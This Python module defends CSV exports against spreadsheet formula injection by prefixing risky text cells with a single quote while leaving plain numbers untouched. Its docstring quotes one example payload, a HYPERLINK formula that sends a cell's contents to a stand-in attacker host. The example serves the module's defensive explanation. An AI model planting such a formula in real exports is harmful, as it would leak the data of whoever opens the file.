"""CSV cells a spreadsheet would run as a formula are written as text (OWASP "CSV injection").

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return can be read by Excel,
LibreOffice or Google Sheets as a formula — ``=HYPERLINK("http://evil.example/?"&A2, "Click")`` in an
imported code or a practice identifier would then run on the computer of whoever opens the export. Every
CSV qiloop or the workbench writes passes its text cells through :func:`neutralise_cell`, which puts a
single quote in front (shown as text, never run).

Plain numbers are left as they are: a cell that is wholly a number ("-3", "+1.5", "-2e3") is read as that
number by every spreadsheet and cannot call a function, and prefixing it would turn a negative count or
change into text that no longer sums. Numeric columns of a table are never touched.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading single quote when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``, each cell through :func:`neutralise_cell`."""
    return [neutralise_cell(cell) for cell in row]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are neutralised; numbers, dates, NA unchanged."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series):
            continue
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        out[column] = series.map(neutralise_cell, na_action="ignore")
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def frame_to_csv(frame: pd.DataFrame, path_or_buf: Any = None, **kwargs: Any) -> str | None:
    """``frame.to_csv(path_or_buf, index=False, ...)`` with every text cell neutralised."""
    kwargs.setdefault("index", False)
    result: str | None = neutralise_frame(frame).to_csv(path_or_buf, **kwargs)
    return result
